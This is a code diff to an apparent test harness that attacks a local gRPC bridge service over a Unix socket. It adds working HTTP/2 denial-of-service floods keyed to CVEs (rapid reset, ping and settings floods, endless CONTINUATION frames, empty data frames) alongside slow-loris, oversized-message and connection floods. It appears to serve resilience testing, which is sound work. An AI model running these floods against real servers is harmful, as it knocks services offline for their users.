@@ -5,10 +5,117 @@
 import { once } from 'node:events'
 import { connect as connectHttp2 } from 'node:http2'
 import { connect, type Socket } from 'node:net'
+import { setTimeout as delay } from 'node:timers/promises'
 import { fileURLToPath } from 'node:url'
+import { callBlock, frame, greeting, preface } from './http2-frames.js'
 
-export const attacks = ['idle', 'slow-loris', 'huge-messages', 'huge-headers', 'never-reading'] as const
-export type Attack = (typeof attacks)[number]
+/** What each does to the server at a path; those that never end by themselves resolve once they are under way. */
+const attackOf = {
+  /** Further ones take the place of those that the server has let go. */
+  idle: async path => {
+    for (let i = 0; i < 5_000; i++) await open(path)
+  },
+  'slow-loris': path =>
+    forEver(200, async () => {
+      const socket = await open(path)
+      for (let i = 0; i < preface.length && !socket.destroyed; i++) {
+        socket.write(preface.subarray(i, i + 1))
+        await delay(500)
+      }
+      socket.destroy()
+    }),
+  'huge-messages': path =>
+    forEver(4, async () => {
+      const client = session(path)
+      const stream = client.request(headers(list))
+      stream.on('error', () => {}).resume()
+      const head = Buffer.alloc(5)
+      head.writeUInt32BE(100_000_000, 1)
+      stream.write(head)
+      const piece = Buffer.alloc(1_000_000)
+      const closed = new Promise(resolve => stream.once('close', resolve))
+      for (let i = 0; i < 100 && !stream.destroyed; i++) {
+        if (!stream.write(piece)) await Promise.race([closed, once(stream, 'drain').catch(() => undefined)])
+      }
+      client.destroy()
+    }),
+  'huge-headers': path =>
+    forEver(4, async () => {
+      const client = session(path)
+      const stream = client.request({ ...headers(list), 'x-padding': 'y'.repeat(1_000_000) })
+      stream.on('error', () => {}).resume()
+      await new Promise(resolve => stream.once('close', resolve))
+      client.destroy()
+    }),
+  'never-reading': async path => {
+    for (let i = 0; i < 20; i++) {
+      // One after the other: it is what they leave behind that counts.
+      await delay(50)
+      const client = session(path)
+      for (let j = 0; j < 100; j++) {
+        const stream = client.request(headers(j % 2 === 0 ? watch : list))
+        stream.on('error', () => {}).on('response', () => stream.pause())
+        stream.end(emptyMessage)
+      }
+    }
+  },
+  /** CVE-2023-44487: streams that are reset as soon as they are opened. */
+  'rapid-resets': path =>
+    flood(path, firstStream =>
+      Buffer.concat(
+        Array.from({ length: 100 }, (_, i) => {
+          const id = firstStream + 2 * i
+          return Buffer.concat([
+            frame('headers', 4, id, callBlock(list)),
+            frame('reset', 0, id, Buffer.from([0, 0, 0, 8])),
+          ])
+        }),
+      ),
+    ),
+  /** CVE-2019-9512 and CVE-2019-9515: what has to be answered, and is so cheap to ask. */
+  pings: path => flood(path, () => repeated(500, frame('ping', 0, 0, Buffer.alloc(8)))),
+  settings: path => flood(path, () => repeated(500, frame('settings', 0, 0, Buffer.alloc(0)))),
+  /** CVE-2024-27316: headers that have no end. */
+  'endless-headers': path =>
+    flood(path, firstStream =>
+      Buffer.concat([
+        frame('headers', 0, firstStream, callBlock(list)),
+        repeated(20, frame('continuation', 0, firstStream, Buffer.from(`\0\x01x\x7e${'y'.repeat(126)}`))),
+      ]),
+    ),
+  /** CVE-2019-9518: pieces of a request that have nothing in them. */
+  'empty-pieces': path =>
+    flood(path, firstStream => {
+      const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(list)) : Buffer.alloc(0)
+      return Buffer.concat([begin, repeated(500, frame('data', 0, 1, Buffer.alloc(0)))])
+    }),
+  /** As many as one connection may send, and more, on more connections than one. */
+  calls: path =>
+    flood(path, firstStream =>
+      Buffer.concat(
+        Array.from({ length: 50 }, (_, i) => {
+          const id = firstStream + 2 * i
+          return Buffer.concat([frame('headers', 4, id, callBlock(bandwidth)), frame('data', 1, id, emptyMessage)])
+        }),
+      ),
+    ),
+  /** Of one stream that asks and asks: it is one call, however much it asks. */
+  questions: path =>
+    flood(path, firstStream => {
+      const begin = firstStream === 1 ? frame('headers', 4, 1, callBlock(reflect)) : Buffer.alloc(0)
+      return Buffer.concat([begin, frame('data', 0, 1, repeated(100, aboutService))])
+    }),
+  connections: path =>
+    forEver(8, async () => {
+      const socket = await open(path)
+      socket.write(greeting)
+      await once(socket, 'data').catch(() => undefined)
+      socket.destroy()
+    }),
+} satisfies Record<string, (path: string) => void | Promise<void>>
+
+export type Attack = keyof typeof attackOf
+export const attacks = Object.keys(attackOf) as readonly Attack[]
 
 export const attackersProgram = fileURLToPath(import.meta.url)
 
@@ -27,6 +134,25 @@ function forEver(many: number, once: () => Promise<void>): void {
   for (let i = 0; i < many; i++) void run()
 }
 
+/** What `next` gives, as fast as the server takes it, on four connections; one that the server closes is opened anew. */
+function flood(path: string, next: (firstStream: number) => Buffer): void {
+  forEver(4, async () => {
+    const socket = await open(path)
+    socket.resume()
+    socket.write(greeting)
+    const closed = new Promise(resolve => socket.once('close', resolve))
+    for (let stream = 1; !socket.destroyed && stream < 0x7fffff00; stream += 200) {
+      if (!socket.write(next(stream))) await Promise.race([closed, once(socket, 'drain').catch(() => undefined)])
+    }
+    socket.destroy()
+    await closed
+  })
+}
+
+function repeated(count: number, one: Buffer): Buffer {
+  return Buffer.concat(Array.from({ length: count }, () => one))
+}
+
 const headers = (path: string) => ({
   ':method': 'POST',
   ':path': path,
@@ -35,7 +161,11 @@ const headers = (path: string) => ({
 })
 const list = '/ovs.bridge.v1.BridgeService/ListTaps'
 const watch = '/ovs.bridge.v1.BridgeService/WatchTaps'
+const bandwidth = '/ovs.bridge.v1.BridgeService/GetBandwidth'
+const reflect = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
 const emptyMessage = Buffer.alloc(5)
+/** What file has the service: field 4 of grpc.reflection.v1.ServerReflectionRequest. */
+const aboutService = Buffer.from('\0\0\0\0\x1d\x22\x1bovs.bridge.v1.BridgeService')
 
 function session(path: string) {
   const made = connectHttp2('http://localhost', { createConnection: () => connect(path) })
@@ -43,66 +173,12 @@ function session(path: string) {
   return made
 }
 
-async function attack(kind: Attack, path: string): Promise<void> {
-  switch (kind) {
-    case 'idle':
-      // Further ones take the place of those that the server has let go.
-      for (let i = 0; i < 5_000; i++) await open(path)
-      return
-    case 'slow-loris':
-      return forEver(200, async () => {
-        const socket = await open(path)
-        const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
-        for (let i = 0; i < preface.length && !socket.destroyed; i++) {
-          socket.write(preface.subarray(i, i + 1))
-          await new Promise(resolve => setTimeout(resolve, 500))
-        }
-        socket.destroy()
-      })
-    case 'huge-messages':
-      return forEver(4, async () => {
-        const client = session(path)
-        const stream = client.request(headers(list))
-        stream.on('error', () => {}).resume()
-        const head = Buffer.alloc(5)
-        head.writeUInt32BE(100_000_000, 1)
-        stream.write(head)
-        const piece = Buffer.alloc(1_000_000)
-        const closed = new Promise(resolve => stream.once('close', resolve))
-        for (let i = 0; i < 100 && !stream.destroyed; i++) {
-          if (!stream.write(piece)) await Promise.race([closed, once(stream, 'drain').catch(() => undefined)])
-        }
-        client.destroy()
-      })
-    case 'huge-headers':
-      return forEver(4, async () => {
-        const client = session(path)
-        const stream = client.request({ ...headers(list), 'x-padding': 'y'.repeat(1_000_000) })
-        stream.on('error', () => {}).resume()
-        await new Promise(resolve => stream.once('close', resolve))
-        client.destroy()
-      })
-    case 'never-reading':
-      for (let i = 0; i < 20; i++) {
-        // One after the other: it is what they leave behind that counts.
-        await new Promise(resolve => setTimeout(resolve, 50))
-        const client = session(path)
-        for (let j = 0; j < 100; j++) {
-          const stream = client.request(headers(j % 2 === 0 ? watch : list))
-          stream.on('error', () => {}).on('response', () => stream.pause())
-          stream.end(emptyMessage)
-        }
-      }
-      return
-  }
-}
-
 if (process.argv[1] === attackersProgram) {
   const [, , kind, path = '', uid] = process.argv
   if (uid !== undefined) process.setuid?.(Number(uid))
   const known = attacks.find(one => one === kind)
   if (known === undefined) throw new Error(`no attack ${kind}`)
-  await attack(known, path)
+  await attackOf[known](path)
   process.stdout.write('ready\n')
   // Connections alone would not keep a process that the server has cut off.
   setInterval(() => {}, 1_000)
